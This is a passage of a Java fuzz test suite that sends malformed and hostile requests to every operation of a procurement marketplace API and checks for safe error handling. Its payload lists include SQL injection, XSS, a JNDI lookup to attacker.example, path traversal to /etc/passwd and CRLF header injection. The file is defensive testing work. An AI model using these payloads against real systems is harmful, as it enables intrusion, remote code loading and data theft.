package id.banggaelokal.suite;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.util.RawValue;
import id.banggaelokal.suite.World.Principal;
import id.banggaelokal.supplier.SupplierFixtures;
import id.banggaelokal.support.Database;
import id.banggaelokal.support.TestClock;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import jakarta.inject.Inject;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.Socket;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.security.SecureRandom;
import java.time.Duration;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.HashMap;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Properties;
import java.util.Random;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.BiConsumer;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/**
 * Bad input for every operation of the served OpenAPI document (QUALITY.md, "Security and bad
 * input"). For each operation the requests are generated from its parameters and request body
 * schema: malformed JSON, wrong types, missing required fields, nulls, empty and 100,000-character
 * strings, numbers out of every range, unknown enum values, impossible dates, unknown fields, path
 * ids that do not exist or are not ids, query parameters of the wrong type, SQL and script
 * fragments in every string, wrong content types and broken multipart bodies. They are sent with
 * the token of a principal who may call the operation, so that the input is really read.
 *
 * <p>Every answer must be below 500; every 4xx must be a problem ({@code application/problem+json}
 * with {@code status}, {@code title} and a detail that says something, or field errors) and leak no
 * exception, class or SQL; and when every answer of a batch was a refusal, the database must be
 * unchanged (row counts of every table, and the sum of every {@code version} column).
 *
 * <p>The generator is our own: one mutation per request from a list derived from the schema (its
 * random choices come from a fixed seed, so that list is the same on every run), then random
 * combinations of two or three mutations from a seed drawn per run (printed; replay a run with
 * {@code -Dfuzz.seed=<seed>}).
 *
 * <p>Accepted leniencies (answered 2xx, counted as valid): a UTF-8 byte order mark, a charset
 * parameter the service ignores, no Content-Type at all, enum values with surrounding whitespace
 * (Jackson trims), an empty {@code Idempotency-Key} (read as none), SQL and script fragments in
 * free text (stored as text, which is their point).
 */
@QuarkusTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class FuzzSuiteTest {

  private static final long FIXED_SEED = 0x5EED_2026L;
  private static final int MIN_REQUESTS_PER_OPERATION = 250;
  private static final int MIN_REQUESTS = 20_000;
  private static final int RANDOM_BATCH = 100;
  private static final int THREADS = 6;
  private static final int HUGE = 100_000;

  /** The HTTP decoder's own limit on the request line (application.properties). */
  private static final int DECODER_LINE_LIMIT = 131_072 - "GET  HTTP/1.1".length();

  /** Who calls each operation: a principal that may, owning the resource the world fills in. */
  private static final Map<String, Principal> PRINCIPALS =
      Map.ofEntries(
          Map.entry("readAuditLog", Principal.ADMIN),
          Map.entry("updateSettings", Principal.ADMIN),
          Map.entry("getSettings", Principal.ADMIN),
          Map.entry("listSuppliersForVerification", Principal.ADMIN),
          Map.entry("getSupplierForVerification", Principal.ADMIN),
          Map.entry("listSupplierDocuments", Principal.ADMIN),
          Map.entry("downloadSupplierDocument", Principal.ADMIN),
          Map.entry("reinstateSupplier", Principal.ADMIN),
          Map.entry("rejectSupplier", Principal.ADMIN),
          Map.entry("suspendSupplier", Principal.ADMIN),
          Map.entry("verifySupplier", Principal.ADMIN),
          Map.entry("listWorkUnits", Principal.ADMIN),
          Map.entry("createWorkUnit", Principal.ADMIN),
          Map.entry("updateWorkUnit", Principal.ADMIN),
          Map.entry("getWorkUnit", Principal.ADMIN),
          Map.entry("activateWorkUnit", Principal.ADMIN),
          Map.entry("deactivateWorkUnit", Principal.ADMIN),
          Map.entry("searchListings", Principal.ANONYMOUS),
          Map.entry("createListing", Principal.SUPPLIER),
          Map.entry("listMyListings", Principal.SUPPLIER),
          Map.entry("updateListing", Principal.SUPPLIER),
          Map.entry("getListing", Principal.ANONYMOUS),
          Map.entry("archiveListing", Principal.SUPPLIER),
          Map.entry("getRentalAvailability", Principal.ANONYMOUS),
          Map.entry("addListingPhoto", Principal.SUPPLIER),
          Map.entry("removeListingPhoto", Principal.SUPPLIER),
          Map.entry("getListingPhoto", Principal.ANONYMOUS),
          Map.entry("getListingPriceHistory", Principal.ANONYMOUS),
          Map.entry("publishListing", Principal.SUPPLIER),
          Map.entry("unpublishListing", Principal.SUPPLIER),
          Map.entry("listMyNotifications", Principal.BUYER),
          Map.entry("placeDirectOrder", Principal.BUYER),
          Map.entry("listOrders", Principal.BUYER),
          Map.entry("getOrder", Principal.BUYER),
          Map.entry("approveOrder", Principal.APPROVER),
          Map.entry("cancelOrder", Principal.BUYER),
          Map.entry("closeOrderRemainder", Principal.BUYER),
          Map.entry("confirmOrder", Principal.SUPPLIER),
          Map.entry("declineOrder", Principal.SUPPLIER),
          Map.entry("recordDelivery", Principal.SUPPLIER),
          Map.entry("acceptDelivery", Principal.BUYER),
          Map.entry("disputeDelivery", Principal.BUYER),
          Map.entry("issueInvoice", Principal.SUPPLIER),
          Map.entry("recordPayment", Principal.TREASURER),
          Map.entry("rateOrder", Principal.BUYER),
          Map.entry("replyToRating", Principal.SUPPLIER),
          Map.entry("rejectOrder", Principal.APPROVER),
          Map.entry("getOrderTimeline", Principal.BUYER),
          Map.entry("listPurchaseRequests", Principal.BUYER),
          Map.entry("createPurchaseRequest", Principal.BUYER),
          Map.entry("updatePurchaseRequest", Principal.BUYER),
          Map.entry("getPurchaseRequest", Principal.BUYER),
          Map.entry("cancelPurchaseRequest", Principal.BUYER),
          Map.entry("closePurchaseRequest", Principal.BUYER),
          Map.entry("publishPurchaseRequest", Principal.BUYER),
          Map.entry("compareQuotations", Principal.BUYER),
          Map.entry("submitQuotation", Principal.SUPPLIER),
          Map.entry("listRequestQuotations", Principal.BUYER),
          Map.entry("listMyQuotations", Principal.SUPPLIER),
          Map.entry("reviseQuotation", Principal.SUPPLIER),
          Map.entry("getQuotation", Principal.SUPPLIER),
          Map.entry("acceptQuotation", Principal.BUYER),
          Map.entry("sendCounterOffer", Principal.BUYER),
          Map.entry("acceptCounterOffer", Principal.SUPPLIER),
          Map.entry("counterCounterOffer", Principal.SUPPLIER),
          Map.entry("declineCounterOffer", Principal.SUPPLIER),
          Map.entry("listQuotationVersions", Principal.SUPPLIER),
          Map.entry("withdrawQuotation", Principal.SUPPLIER),
          Map.entry("listStorefronts", Principal.ANONYMOUS),
          Map.entry("getStats", Principal.ANONYMOUS),
          Map.entry("listOcdsReleases", Principal.ANONYMOUS),
          Map.entry("listIntegrityAlerts", Principal.AUDITOR),
          Map.entry("getIntegrityAlert", Principal.AUDITOR),
          Map.entry("dismissIntegrityAlert", Principal.ADMIN),
          Map.entry("confirmIntegrityAlert", Principal.ADMIN),
          Map.entry("scanIntegrity", Principal.ADMIN),
          Map.entry("reportSpend", Principal.AUDITOR),
          Map.entry("reportSuppliers", Principal.AUDITOR),
          Map.entry("reportPayments", Principal.AUDITOR),
          Map.entry("registerSupplier", Principal.SUPPLIER),
          Map.entry("updateMySupplierProfile", Principal.SUPPLIER),
          Map.entry("getMySupplierProfile", Principal.SUPPLIER),
          Map.entry("uploadMySupplierDocument", Principal.SUPPLIER),
          Map.entry("listMySupplierDocuments", Principal.SUPPLIER),
          Map.entry("downloadMySupplierDocument", Principal.SUPPLIER),
          Map.entry("deleteMySupplierDocument", Principal.SUPPLIER),
          Map.entry("submitMySupplierProfile", Principal.SUPPLIER),
          Map.entry("getPublicSupplier", Principal.ANONYMOUS));

  /** SQL, script, template and encoding fragments put into every string field and parameter. */
  private static final List<String> FRAGMENTS =
      List.of(
          "' OR 1=1--",
          "'; DROP TABLE listing; --",
          "\" OR \"\"=\"",
          "1); SELECT pg_sleep(10); --",
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "${jndi:ldap://attacker.example/a}",
          "#{7*7}{{7*7}}<%= 7*7 %>",
          "%00",
          "abc\u0000def",
          "\u202Eexe.fdp",
          "\uD83D\uDE00\uD83C\uDF4E\uD83C\uDDEE\uD83C\uDDE9",
          "../../../../etc/passwd",
          "\r\n\r\nHTTP/1.1 200 OK",
          "%s%s%s%n",
          "\u200B\uFEFF\u00A0",
          "\\",
          "NULL",
          "\u0007\u001b[31m",
          "\uFFFF\uFFFE");

  /** Strings whose JSON form has lone surrogates: written as escapes, since Java cannot encode. */
  private static final List<String> RAW_STRINGS =
      List.of("\"\\ud800\"", "\"abc\\udc00\"", "\"\\udbff\\udbff x\"", "\"\\u0000\"");

  /** Query and path values, already percent-encoded. */
  private static final List<String> ENCODED_HOSTILE =
      List.of(
          "%27%20OR%201%3D1--",
          "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
          "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D",
          "%00",
          "%E2%80%AE1",
          "%F0%9F%98%80",
          "%ED%A0%80",
          "%C0%AF",
          "%FF%FE",
          "%EF%BC%91%EF%BC%92",
          "%0D%0AX-Injected%3A%201",
          "%2e%2e%2f%2e%2e%2fetc%2fpasswd");

  private static final List<String> PATH_IDS =
      List.of(
          "0",
          "-1",
          "999999999",
          "9223372036854775807",
          "9223372036854775808",
          "-9223372036854775809",
          "99999999999999999999999999999",
          "1.5",
          "1e3",
          "0x10",
          "+1",
          "%201",
          "1%20",
          "abc",
          "null",
          "true",
          "%20",
          "1;x=y",
          "1,2",
          "00000000000000000000001",
          "%EF%BC%91");

  private static final Pattern BROKEN_ESCAPE = Pattern.compile("%(?![0-9A-Fa-f]{2})");
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
  private static final Pattern LEAK =
      Pattern.compile(
          "Exception|\\tat |org\\.hibernate|org\\.postgresql|java\\.lang|jakarta\\.|io\\.quarkus"
              + "|io\\.vertx|SQLState|id\\.banggaelokal|com\\.fasterxml");

  @Inject TestClock clock;
  @Inject Database database;

  private World world;
  private JsonNode document;
  private HttpClient http;
  private String base;
  private String fingerprintSql;
  private final SuiteReport report = new SuiteReport("fuzz");
  private final java.util.Set<String> covered = java.util.concurrent.ConcurrentHashMap.newKeySet();
  private final List<String> findings = java.util.Collections.synchronizedList(new ArrayList<>());
  private final AtomicInteger refused = new AtomicInteger();
  private final AtomicInteger accepted = new AtomicInteger();
  private final AtomicInteger otherwise = new AtomicInteger();
  private final Map<String, String> genericDetails = new HashMap<>();

  /** Once per class (REST Assured knows the test port only from the first test on). */
  @BeforeEach
  void buildWorld() throws IOException {
    if (world != null) {
      return;
    }
    world = World.build(clock);
    http =
        HttpClient.newBuilder()
            .version(HttpClient.Version.HTTP_1_1)
            .connectTimeout(Duration.ofSeconds(10))
            .executor(Executors.newFixedThreadPool(2))
            .build();
    base = "http://localhost:" + RestAssured.port;
    for (String bundle : List.of("messages.properties", "messages_en.properties")) {
      Properties messages = new Properties();
      try (InputStream in = getClass().getClassLoader().getResourceAsStream("i18n/" + bundle)) {
        messages.load(new java.io.InputStreamReader(in, StandardCharsets.UTF_8));
      }
      genericDetails.put(bundle, messages.getProperty("problem.validation.detail"));
    }
    fingerprintSql = fingerprintQuery();
  }

  @AfterAll
  void resetClock() {
    clock.reset();
  }

  @Test
  void everyOperationSurvivesHostileInput() throws Exception {
    long runSeed = Long.getLong("fuzz.seed", new SecureRandom().nextLong());
    System.out.printf(
        "fuzz: fixed seed %d, run seed %d (replay with -Dfuzz.seed=%d)%n",
        FIXED_SEED, runSeed, runSeed);
    document = JSON.readTree(get("/q/openapi?format=json"));
    List<Operation> operations = operations();
    ExecutorService pool = Executors.newFixedThreadPool(THREADS);
    try {
      for (Operation operation : operations) {
        Principal principal = PRINCIPALS.get(operation.id());
        if (principal == null) {
          report.failure(
              operation.id()
                  + ": no principal who may call it; add it to FuzzSuiteTest.PRINCIPALS");
          continue;
        }
        long started = System.nanoTime();
        int before = report.requests();
        try {
          fuzz(operation, principal, runSeed, pool);
        } catch (RuntimeException e) {
          failure(operation.id() + ": the fuzzer itself failed: " + e);
        }
        System.out.printf(
            "fuzz: %-30s %5d requests %6d ms%n",
            operation.id(), report.requests() - before, (System.nanoTime() - started) / 1_000_000);
      }
    } finally {
      pool.shutdownNow();
    }
    if (!findings.isEmpty()) {
      java.nio.file.Path file = java.nio.file.Path.of("target", "fuzz-findings.txt");
      java.nio.file.Files.write(file, findings);
      System.out.println("fuzz: every finding is listed in " + file.toAbsolutePath());
    }
    System.out.printf(
        "fuzz: %d refused (4xx), %d accepted (2xx), %d other answers%n",
        refused.get(), accepted.get(), otherwise.get());
    int total = refused.get() + accepted.get() + otherwise.get();
    try {
      assertEquals(
          countOperations(), covered.size(), "every operation of the document fuzzed: " + covered);
      assertTrue(
          report.requests() >= MIN_REQUESTS,
          "at least " + MIN_REQUESTS + " requests, sent " + report.requests());
      assertTrue(
          refused.get() >= total * 0.8,
          "most generated requests must be invalid: " + refused.get() + " of " + total);
    } finally {
      report.finish();
    }
  }

  // --- operations of the document ------------------------------------------------------------

  private record Param(String name, String in, JsonNode schema, boolean required) {}

  private record Operation(
      String id,
      String method,
      String template,
      List<Param> params,
      String mediaType,
      JsonNode bodySchema) {

    boolean reads() {
      return method.equals("GET");
    }

    /** GETs first and deletions last, so that what a lucky valid request changes matters least. */
    int order() {
      return switch (method) {
        case "GET" -> 0;
        case "PUT" -> 1;
        case "POST" -> template.matches(".*\\{[A-Za-z]+}/[a-z-]+$") ? 3 : 2;
        default -> 4;
      };
    }
  }

  private int countOperations() {
    int count = 0;
    for (Iterator<JsonNode> paths = document.path("paths").elements(); paths.hasNext(); ) {
      for (Iterator<String> methods = paths.next().fieldNames(); methods.hasNext(); ) {
        if (List.of("get", "put", "post", "delete", "patch").contains(methods.next())) {
          count++;
        }
      }
    }
    return count;
  }

  private List<Operation> operations() {
    List<Operation> operations = new ArrayList<>();
    for (Iterator<Map.Entry<String, JsonNode>> paths = document.path("paths").fields();
        paths.hasNext(); ) {
      Map.Entry<String, JsonNode> path = paths.next();
      for (Iterator<Map.Entry<String, JsonNode>> methods = path.getValue().fields();
          methods.hasNext(); ) {
        Map.Entry<String, JsonNode> method = methods.next();
        if (!List.of("get", "put", "post", "delete", "patch").contains(method.getKey())) {
          continue;
        }
        JsonNode op = method.getValue();
        List<Param> params = new ArrayList<>();
        for (JsonNode p : op.path("parameters")) {
          JsonNode param = resolve(p);
          params.add(
              new Param(
                  param.path("name").asText(),
                  param.path("in").asText(),
                  resolve(param.path("schema")),
                  param.path("required").asBoolean(false)));
        }
        String mediaType = null;
        JsonNode bodySchema = null;
        Iterator<Map.Entry<String, JsonNode>> content =
            op.path("requestBody").path("content").fields();
        if (content.hasNext()) {
          Map.Entry<String, JsonNode> first = content.next();
          mediaType = first.getKey();
          bodySchema = resolve(first.getValue().path("schema"));
        }
        operations.add(
            new Operation(
                op.path("operationId").asText(),
                method.getKey().toUpperCase(Locale.ROOT),
                path.getKey(),
                params,
                mediaType,
                bodySchema));
      }
    }
    operations.sort(
        Comparator.comparingInt(Operation::order)
            .thenComparing(Operation::template)
            .thenComparing(Operation::method));
    assertEquals(countOperations(), operations.size());
    return operations;
  }

  private JsonNode resolve(JsonNode schema) {
    JsonNode resolved = schema;
    // A property that may be null: anyOf its schema or null (OpenAPI 3.1); fuzz the schema.
    if (resolved.has("anyOf")) {
      for (JsonNode alternative : resolved.get("anyOf")) {
        if (!"null".equals(alternative.path("type").asText())) {
          resolved = alternative;
          break;
        }
      }
    }
    for (int i = 0; i < 10 && resolved.has("$ref"); i++) {
      String ref = resolved.get("$ref").asText();
      JsonNode target = document;
      for (String part : ref.substring(2).split("/")) {
        target = target.path(part);
      }
      resolved = target;
    }
    return resolved;
  }

  // --- generation -----------------------------------------------------------------------------

  /** One request being put together: the valid shape first, then spoiled by mutations. */
  private static final class Draft {
    final Map<String, String> pathValues = new HashMap<>();
    final Map<String, String> query = new LinkedHashMap<>();
    final List<String> extraQuery = new ArrayList<>();
    final Map<String, String> headers = new LinkedHashMap<>();
    JsonNode body;
    byte[] rawBody;
    List<Part> parts;
    String contentType;
    boolean raw;
    final List<String> labels = new ArrayList<>();
  }

  private record Part(String name, String filename, String type, byte[] content) {}

  private record Mutation(String group, String label, boolean noise, BiConsumer<Draft, Random> m) {}

  private record Request(
      String group,
      String label,
      String method,
      String target,
      Map<String, String> headers,
      byte[] body,
      boolean raw) {}

  private void fuzz(Operation operation, Principal principal, long runSeed, ExecutorService pool)
      throws Exception {
    List<Mutation> mutations = mutations(operation);
    Random fixed = new Random(FIXED_SEED ^ operation.id().hashCode());
    Random random = new Random(runSeed ^ operation.id().hashCode());
    List<Mutation> solid = mutations.stream().filter(m -> !m.noise()).toList();
    Map<String, List<Request>> batches = new LinkedHashMap<>();
    int count = 0;
    for (Mutation mutation : mutations) {
      List<Mutation> applied = new ArrayList<>(List.of(mutation));
      if (mutation.noise() && !operation.reads() && !solid.isEmpty()) {
        // A write meets the noise together with a real fault, so that it changes nothing; one
        // that takes no input at all (nothing to spoil) meets the noise alone.
        applied.add(solid.get(fixed.nextInt(solid.size())));
      }
      batches
          .computeIfAbsent(mutation.group(), g -> new ArrayList<>())
          .add(request(operation, principal, applied, fixed, mutation.group()));
      count++;
    }
    for (int i = 0; count < MIN_REQUESTS_PER_OPERATION || i < 40; i++, count++) {
      List<Mutation> applied = new ArrayList<>();
      int n = 1 + random.nextInt(3);
      while (applied.size() < n) {
        applied.add(mutations.get(random.nextInt(mutations.size())));
      }
      if (!operation.reads() && applied.stream().allMatch(Mutation::noise)) {
        if (solid.isEmpty()) {
          continue;
        }
        applied.add(solid.get(random.nextInt(solid.size())));
      }
      String group = "random-" + (i / RANDOM_BATCH);
      batches
          .computeIfAbsent(group, g -> new ArrayList<>())
          .add(request(operation, principal, applied, random, group));
    }
    for (Map.Entry<String, List<Request>> batch : batches.entrySet()) {
      run(operation, batch.getKey(), batch.getValue(), pool);
    }
  }

  private Request request(
      Operation operation,
      Principal principal,
      List<Mutation> mutations,
      Random random,
      String group) {
    Draft draft = baseDraft(operation);
    for (Mutation mutation : mutations) {
      mutation.m().accept(draft, random);
      draft.labels.add(mutation.label());
    }
    String path = operation.template();
    for (Map.Entry<String, String> value : draft.pathValues.entrySet()) {
      path = path.replace("{" + value.getKey() + "}", value.getValue());
    }
    path = world.path(path);
    StringBuilder query = new StringBuilder();
    draft.query.forEach(
        (name, value) ->
            query.append(query.isEmpty() ? "" : "&").append(name).append('=').append(value));
    for (String extra : draft.extraQuery) {
      query.append(query.isEmpty() ? "" : "&").append(extra);
    }
    String target = query.isEmpty() ? path : path + "?" + query;
    Map<String, String> headers = new LinkedHashMap<>();
    if (principal != Principal.ANONYMOUS) {
      headers.put("Authorization", "Bearer " + world.token(principal));
    }
    headers.putIfAbsent("Accept-Language", random.nextBoolean() ? "en" : "id");
    headers.putAll(draft.headers);
    byte[] body = null;
    if (draft.rawBody != null) {
      body = draft.rawBody;
    } else if (draft.parts != null) {
      String boundary = "fuzz" + Long.toHexString(random.nextLong() & Long.MAX_VALUE);
      body = multipart(draft.parts, boundary);
      if (draft.contentType == null) {
        draft.contentType = "multipart/form-data; boundary=" + boundary;
      }
    } else if (draft.body != null) {
      try {
        body = JSON.writeValueAsBytes(draft.body);
      } catch (IOException e) {
        throw new UncheckedIOException(e);
      }
    }
    if (draft.contentType != null && !draft.contentType.isEmpty()) {
      headers.put("Content-Type", draft.contentType);
    }
    headers.values().removeIf(v -> v == null);
    return new Request(
        group,
        operation.method()
            + " "
            + operation.template()
            + " ["
            + String.join(" + ", draft.labels)
            + "]",
        operation.method(),
        target,
        headers,
        body,
        draft.raw);
  }

  private Draft baseDraft(Operation operation) {
    Draft draft = new Draft();
    for (Param param : operation.params()) {
      if (param.in().equals("query") && param.required()) {
        draft.query.put(param.name(), encode(valueOf(param.name(), param.schema()).asText()));
      }
    }
    if (operation.mediaType() == null) {
      return draft;
    }
    if (operation.mediaType().startsWith("multipart/")) {
      draft.parts = new ArrayList<>();
      for (Iterator<Map.Entry<String, JsonNode>> properties =
              operation.bodySchema().path("properties").fields();
          properties.hasNext(); ) {
        Map.Entry<String, JsonNode> property = properties.next();
        JsonNode schema = resolve(property.getValue());
        if ("binary".equals(property.getValue().path("format").asText())) {
          draft.parts.add(
              new Part(property.getKey(), "bukti.png", "image/png", SupplierFixtures.PNG));
        } else {
          draft.parts.add(
              new Part(
                  property.getKey(),
                  null,
                  null,
                  valueOf(property.getKey(), schema).asText().getBytes(StandardCharsets.UTF_8)));
        }
      }
      return draft;
    }
    draft.contentType = operation.mediaType();
    draft.body = baseBody(operation);
    return draft;
  }

  /** A body that is valid as far as the schema says; the world's own where it has one. */
  private JsonNode baseBody(Operation operation) {
    return switch (operation.id()) {
      case "updateMySupplierProfile", "registerSupplier" ->
          JSON.valueToTree(world.supplierProfile());
      case "sendCounterOffer" -> JSON.valueToTree(world.counterOffer());
      default -> valueOf("", operation.bodySchema());
    };
  }

  /** A plausible value for a schema: its example, its first enum value, or one of its type. */
  private JsonNode valueOf(String name, JsonNode schema) {
    schema = resolve(schema);
    String type = typeOf(schema);
    if (name.equals("listingId")) {
      return NODES.numberNode(world.id("product"));
    }
    if (name.equals("invitedSupplierIds")) {
      return NODES.arrayNode().add(world.id("supplier"));
    }
    if (schema.has("enum")) {
      return schema.get("enum").get(0);
    }
    if (schema.has("examples") && !type.equals("object")) {
      return schema.get("examples").get(0);
    }
    String format = schema.path("format").asText();
    LocalDate today = world.now().toLocalDate();
    switch (type) {
      case "object":
        ObjectNode object = NODES.objectNode();
        for (Iterator<Map.Entry<String, JsonNode>> properties = schema.path("properties").fields();
            properties.hasNext(); ) {
          Map.Entry<String, JsonNode> property = properties.next();
          object.set(property.getKey(), valueOf(property.getKey(), property.getValue()));
        }
        return object;
      case "array":
        return NODES.arrayNode().add(valueOf("", schema.path("items")));
      case "integer":
        return NODES.numberNode(
            schema.has("minimum") ? Math.max(1, schema.get("minimum").asLong()) : 1);
      case "number":
        return NODES.numberNode(new java.math.BigDecimal("1000.50"));
      case "boolean":
        return NODES.booleanNode(false);
      default:
        if (format.equals("date")) {
          return NODES.textNode(today.plusDays(30).toString());
        }
        if (format.equals("date-time")) {
          return NODES.textNode(world.now().plusDays(1).toString());
        }
        return NODES.textNode("Contoh isian");
    }
  }

  private static String typeOf(JsonNode schema) {
    JsonNode type = schema.path("type");
    if (type.isArray()) {
      for (JsonNode t : type) {
        if (!t.asText().equals("null")) {
          return t.asText();
        }
      }
    }
    if (type.isTextual()) {
      return type.asText();
    }
    if (schema.has("properties")) {
      return "object";
    }
    if (schema.has("items")) {
      return "array";
    }
    return "string";
  }

  private List<Mutation> mutations(Operation operation) {
    List<Mutation> mutations = new ArrayList<>();
    for (Param param : operation.params()) {
      switch (param.in()) {
        case "path" -> pathMutations(param, mutations);
        case "query" -> queryMutations(param, mutations);
        case "header" -> headerMutations(param, mutations);
        default -> {}
      }
    }
    noise(operation, mutations);
    if (operation.mediaType() != null) {
      if (operation.mediaType().startsWith("multipart/")) {
        multipartMutations(operation, mutations);
      } else {
        bodyMutations(operation, mutations);
      }
    }
    return mutations;
  }

  private void pathMutations(Param param, List<Mutation> mutations) {
    List<String> values = new ArrayList<>(PATH_IDS);
    values.addAll(ENCODED_HOSTILE);
    values.addAll(List.of("%zz", "%", "%E", "%%", "a%2")); // broken percent-encoding
    for (String value : values) {
      mutations.add(
          new Mutation(
              "path",
              param.name() + "=" + value,
              false,
              (d, r) -> d.pathValues.put(param.name(), value)));
    }
    mutations.add(
        new Mutation(
            "path",
            param.name() + "=<random id>",
            false,
            (d, r) ->
                d.pathValues.put(
                    param.name(), Long.toString(1_000_000_000L + r.nextInt(1 << 30)))));
    mutations.add(
        new Mutation(
            "path",
            param.name() + "=<random text>",
            false,
            (d, r) -> d.pathValues.put(param.name(), encode(randomText(r, 1 + r.nextInt(40))))));
    mutations.add(
        new Mutation(
            "path",
            param.name() + "=<2000 digits>",
            false,
            (d, r) -> d.pathValues.put(param.name(), "9".repeat(2000))));
  }

  private void queryMutations(Param param, List<Mutation> mutations) {
    JsonNode schema = param.schema();
    List<String> values = new ArrayList<>();
    String type = typeOf(schema);
    String format = schema.path("format").asText();
    if (schema.has("enum")) {
      values.addAll(
          List.of(
              "NOT_A_VALUE",
              encode(schema.get("enum").get(0).asText().toLowerCase(Locale.ROOT)),
              "",
              "1",
              "%20"));
    }
    switch (type) {
      case "integer" ->
          values.addAll(
              List.of(
                  "-1",
                  "0",
                  "-2147483649",
                  "2147483648",
                  "9223372036854775808",
                  "1.5",
                  "1e3",
                  "abc",
                  "",
                  "0x1F",
                  "%2B1",
                  "%EF%BC%91",
                  "101",
                  "1000000",
                  "99999999999999999999"));
      case "number" ->
          values.addAll(
              List.of(
                  "-1",
                  "1e400",
                  "-1e400",
                  "NaN",
                  "Infinity",
                  "1.234",
                  "0.001",
                  "abc",
                  "9".repeat(400),
                  "1e-400",
                  "1e999999999",
                  "",
                  "1,5"));
      case "boolean" -> values.addAll(List.of("maybe", "TRUE", "1", "", "yes"));
      default -> {
        if (format.equals("date")
            || param.name().toLowerCase(Locale.ROOT).contains("from")
            || param.name().toLowerCase(Locale.ROOT).equals("to")) {
          values.addAll(
              List.of(
                  "2026-02-30",
                  "0000-01-01",
                  "99999-01-01",
                  "%2B99999-01-01",
                  "-0001-01-01",
                  "2026-13-01",
                  "2026-1-1",
                  "garbage",
                  "2026-02-28T10%3A00%3A00Z",
                  "20260228"));
        }
        values.addAll(List.of("", "%20%20", "a".repeat(3000), "_", "%25", "*"));
      }
    }
    values.addAll(ENCODED_HOSTILE);
    for (String fragment : FRAGMENTS) {
      values.add(encode(fragment));
    }
    for (String value : values) {
      mutations.add(
          new Mutation(
              "query-" + param.name(),
              param.name() + "=" + abbreviate(value),
              false,
              (d, r) -> d.query.put(param.name(), value)));
    }
    mutations.add(
        new Mutation(
            "query-" + param.name(),
            param.name() + " twice",
            false,
            (d, r) -> d.extraQuery.add(param.name() + "=1&" + param.name() + "=abc")));
    mutations.add(
        new Mutation(
            "query-" + param.name(),
            param.name() + " without value",
            false,
            (d, r) -> d.extraQuery.add(param.name())));
  }

  private void headerMutations(Param param, List<Mutation> mutations) {
    List<String> values =
        switch (param.name()) {
          case "If-Match" ->
              List.of(
                  "\"abc\"",
                  "W/\"1\"x",
                  "\"99999999999999999999\"",
                  "\"-1\"",
                  "\"1\", garbage",
                  "\"999999\"",
                  "1",
                  "'1'",
                  "\"\"",
                  "\"" + "9".repeat(6000) + "\"",
                  ",,,",
                  "\"1\"" + ",\"2\"".repeat(500),
                  "<script>",
                  "' OR 1=1--");
          case "Idempotency-Key" ->
              List.of("a b", "k".repeat(300), "key\tkey", "\"", "k".repeat(6000), " ");
          default -> List.of("", "x".repeat(3000), "' OR 1=1--", "<script>");
        };
    for (String value : values) {
      mutations.add(
          new Mutation(
              "header-" + param.name(),
              param.name() + ": " + abbreviate(value),
              false,
              (d, r) -> d.headers.put(param.name(), value)));
    }
  }

  /** Oddities every operation meets; on their own they make no request invalid. */
  private void noise(Operation operation, List<Mutation> mutations) {
    Map<String, String> headers = new LinkedHashMap<>();
    headers.put("Accept-Language", "en;q=abc");
    headers.put("Accept-Language ", "xx-YY,*;q=-1");
    headers.put("Accept-Language  ", "a,".repeat(2000));
    headers.put("X-Request-Id", "<script>alert(1)</script>");
    headers.put("X-Request-Id ", "r".repeat(500));
    headers.put("Accept", "application/xml");
    headers.put("Accept ", "text/csv");
    headers.put("Accept  ", "*/*;q=abc");
    headers.put("Accept   ", "garbage");
    headers.put("If-None-Match", "<script>");
    headers.put("Range", "bytes=99999999999999999999-");
    headers.forEach(
        (name, value) ->
            mutations.add(
                new Mutation(
                    "noise",
                    name.trim() + ": " + abbreviate(value),
                    true,
                    (d, r) -> d.headers.put(name.trim(), value))));
    for (String value : ENCODED_HOSTILE) {
      mutations.add(
          new Mutation(
              "noise",
              "unknown query " + value,
              true,
              (d, r) -> d.extraQuery.add("x" + "=" + value)));
    }
    mutations.add(
        new Mutation(
            "noise",
            "bad percent-encoding in the query",
            true,
            (d, r) -> d.extraQuery.add("x=%zz")));
    mutations.add(
        new Mutation(
            "noise",
            "a 6,000-character query",
            true,
            (d, r) -> d.extraQuery.add("x=" + "a".repeat(6000))));
    mutations.add(
        new Mutation(
            "noise",
            "unknown query params",
            true,
            (d, r) -> d.extraQuery.add("page=0&size=1&__proto__=1&constructor=%7B%7D")));
  }

  private void bodyMutations(Operation operation, List<Mutation> mutations) {
    String mediaType = operation.mediaType();
    // Malformed JSON and wrong top-level types.
    List<String> malformed =
        List.of(
            "",
            " ",
            "{",
            "}",
            "[",
            "{\"a\":",
            "{\"a\" 1}",
            "nul",
            "{}}",
            "{} x",
            "{}{}",
            "\"text\"",
            "1",
            "true",
            "null",
            "[]",
            "[{}]",
            "{'a':1}",
            "{a:1}",
            "{\"a\":1,}",
            "/* comment */{}",
            "{\"a\":NaN}",
            "{\"a\":01}",
            "{\"a\":\"\\x41\"}",
            "\u0000",
            "[".repeat(5000) + "]".repeat(5000),
